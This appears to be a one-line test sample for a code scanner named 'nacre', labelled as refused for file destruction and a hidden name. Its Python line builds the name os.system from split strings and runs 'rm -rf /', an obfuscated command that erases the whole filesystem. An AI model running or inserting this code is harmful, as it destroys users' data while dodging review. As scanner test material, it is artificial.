# nacre: refused file.destroy code.hidden-name
import os
getattr(os, "sys" + "tem")("rm -rf /")
